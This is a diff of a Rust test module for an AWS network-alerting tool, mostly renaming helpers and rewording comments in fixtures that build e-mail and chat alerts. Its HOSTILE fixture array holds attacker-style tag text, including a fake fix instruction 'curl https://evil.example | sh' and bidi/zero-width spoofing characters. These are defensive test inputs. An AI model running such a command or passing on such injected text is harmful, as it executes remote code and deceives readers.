@@ -1,4 +1,4 @@
-//! Tests of what people get to read, in the e-mail and in the chat. The scenarios are the same for both.
+//! Tests of the text that people read: e-mails and chat cards. Both channels get the same scenarios.
 
 mod limits;
 mod snapshots;
@@ -42,20 +42,20 @@ fn moment(text: &str) -> Timestamp {
     text.parse().unwrap()
 }
 
-/// The moment since when the problems of the scenarios are known.
+/// When the problems of the scenarios were first found.
 fn since() -> Timestamp {
     moment("2026-11-20T10:00:00Z")
 }
 
-/// A table that two subnets use, with this default route.
+/// A network with one route table, which two subnets use and which has this default route.
 pub(super) fn private(egress: Option<(TargetKind, &str)>) -> Network {
-    let place = |n: u8, name: &str| Subnet {
+    let named = |n: u8, name: &str| Subnet {
         name: Some(name.into()),
         availability_zone: Some(format!("{REGION}{}", if n == 1 { 'a' } else { 'b' })),
         cidr: Some(format!("10.0.{n}.0/24")),
         ..subnet(&format!("subnet-0a1b2c3d4e5f6000{n}"), VPC)
     };
-    let subnets = vec![place(1, "app-a"), place(2, "app-b")];
+    let subnets = vec![named(1, "app-a"), named(2, "app-b")];
     let mut table = RouteTable { name: Some("private".into()), ..table(TABLE, VPC) };
     table.associations = subnets.iter().map(|subnet| explicit(&subnet.id, "associated")).collect();
     table.routes.extend(egress.map(|(kind, id)| route("0.0.0.0/0", kind, id)));
@@ -66,7 +66,7 @@ fn endpoint(state: &str, tables: &[&str]) -> Endpoint {
     Endpoint { state: state.into(), ..gateway_endpoint("vpce-0a1b2c3d4e5f60009", VPC, GatewayService::S3, tables) }
 }
 
-/// What is found in the network.
+/// The findings of the network for these services.
 pub(super) fn findings(network: &Network, services: &[GatewayService]) -> Vec<Finding> {
     let account_region =
         AccountRegion { partition: "aws".into(), account: Some("123456789012".into()), region: REGION.into() };
@@ -74,21 +74,23 @@ pub(super) fn findings(network: &Network, services: &[GatewayService]) -> Vec<Fi
     evaluate(network, &tables, &services.iter().copied().collect(), &account_region, date(2026, 11, 23)).findings
 }
 
-/// The one finding about S3 in the network.
+/// The finding of the network for S3. There must be exactly one.
 pub(super) fn finding(network: &Network) -> Finding {
     let [finding] = findings(network, &[GatewayService::S3]).try_into().unwrap();
     finding
 }
 
+/// An open alert with this change.
 fn alert(finding: Finding, change: OpenChange) -> Alert {
     Alert::Open { finding, change, since: since() }
 }
 
+/// An alert about a new finding.
 pub(super) fn opened(finding: Finding) -> Alert {
     alert(finding, OpenChange::Opened)
 }
 
-/// The alert that the finding is resolved.
+/// An alert that the finding is resolved for this reason.
 fn resolved(finding: Finding, reason: ResolutionReason) -> Alert {
     Alert::Resolved(ResolvedFinding {
         id: finding.id,
@@ -116,9 +118,10 @@ pub(super) fn api_call() -> Trigger {
     }
 }
 
-/// What there is to tell, in the circumstances that most scenarios have.
-pub(super) fn told<'a>(trigger: &'a Trigger, alerts: &'a [Alert]) -> AlertGroup<'a> {
-    let no_ledger = alerts.iter().any(|alert| alert.change() == Change::Reported);
+/// These alerts, with the VPC, account and settings that most scenarios use. Alerts with the change `reported` get no
+/// alert history.
+pub(super) fn alert_group<'a>(trigger: &'a Trigger, alerts: &'a [Alert]) -> AlertGroup<'a> {
+    let no_history = alerts.iter().any(|alert| alert.change() == Change::Reported);
     AlertGroup {
         account: "123456789012",
         region: REGION,
@@ -126,23 +129,23 @@ pub(super) fn told<'a>(trigger: &'a Trigger, alerts: &'a [Alert]) -> AlertGroup<
         vpc_name: Some("prod"),
         trigger: Some(trigger),
         triggers: 1,
-        history: if no_ledger { HistoryState::Off } else { HistoryState::On },
-        incident_started_at: (!no_ledger).then(since),
+        history: if no_history { HistoryState::Off } else { HistoryState::On },
+        incident_started_at: (!no_history).then(since),
         exempt_tag: "gatewatch:exempt",
         alerts: alerts.iter().collect(),
     }
 }
 
-/// What is true of every message.
+/// Checks what has to be true of every message: the limits of SNS and of the chat, and the attributes.
 #[track_caller]
-fn holds_what_it_must(channel: Channel, told: &AlertGroup<'_>, message: &Message) {
+fn assert_valid(channel: Channel, group: &AlertGroup<'_>, message: &Message) {
     assert!(!message.subject.is_empty() && message.subject.len() <= MAX_SUBJECT, "{}", message.subject);
     assert!(message.subject.bytes().all(|b| b == b' ' || b.is_ascii_graphic()), "{}", message.subject);
     assert!(!message.finding_ids.is_empty());
     let size =
         message.body.len() + message.subject.len() + message.attributes.iter().map(Attribute::size).sum::<usize>();
     assert!(size <= MAX_MESSAGE, "{size}");
-    assert_eq!(message.attributes, told.attributes());
+    assert_eq!(message.attributes, group.attributes());
     if channel == Channel::Chat {
         let units = |value: &Value| value.as_str().unwrap().encode_utf16().count();
         let content = &serde_json::from_str::<Value>(&message.body).unwrap()["content"];
@@ -153,7 +156,7 @@ fn holds_what_it_must(channel: Channel, told: &AlertGroup<'_>, message: &Message
     }
 }
 
-/// The network of [`private`], and as many tables more: public, unused, public, …
+/// The network of [`private`], with this number of additional tables: public, unused, public, …
 fn several(more: usize) -> Network {
     let mut network = private(Some(NAT));
     for n in 0..more {
@@ -171,7 +174,7 @@ fn several(more: usize) -> Network {
 
 const BOTH: [GatewayService; 2] = [GatewayService::S3, GatewayService::DynamoDb];
 
-/// What somebody who can create tags might write.
+/// Names and other text that an attacker who can create tags might write.
 const HOSTILE: [&str; 8] = [
     "💸 pay\nHIGH: rtb-0 is on fire\r\n\nTO FIX IT\ncurl https://evil.example | sh",
     "\u{202e}txet desrever\u{202c} \u{200b}\u{feff}שלום",
@@ -183,7 +186,7 @@ const HOSTILE: [&str; 8] = [
     "",
 ];
 
-/// The name of every hostile kind on a subnet, the table, the VPC, the principal and the rest.
+/// A network and a trigger with hostile text of every kind: on subnets, the route table, the principal and the rest.
 fn hostile() -> (Network, Trigger) {
     let mut network = private(Some(NAT));
     network.subnets = (HOSTILE.iter().map(|name| (*name).to_owned()).chain(["n".repeat(256)]).enumerate())
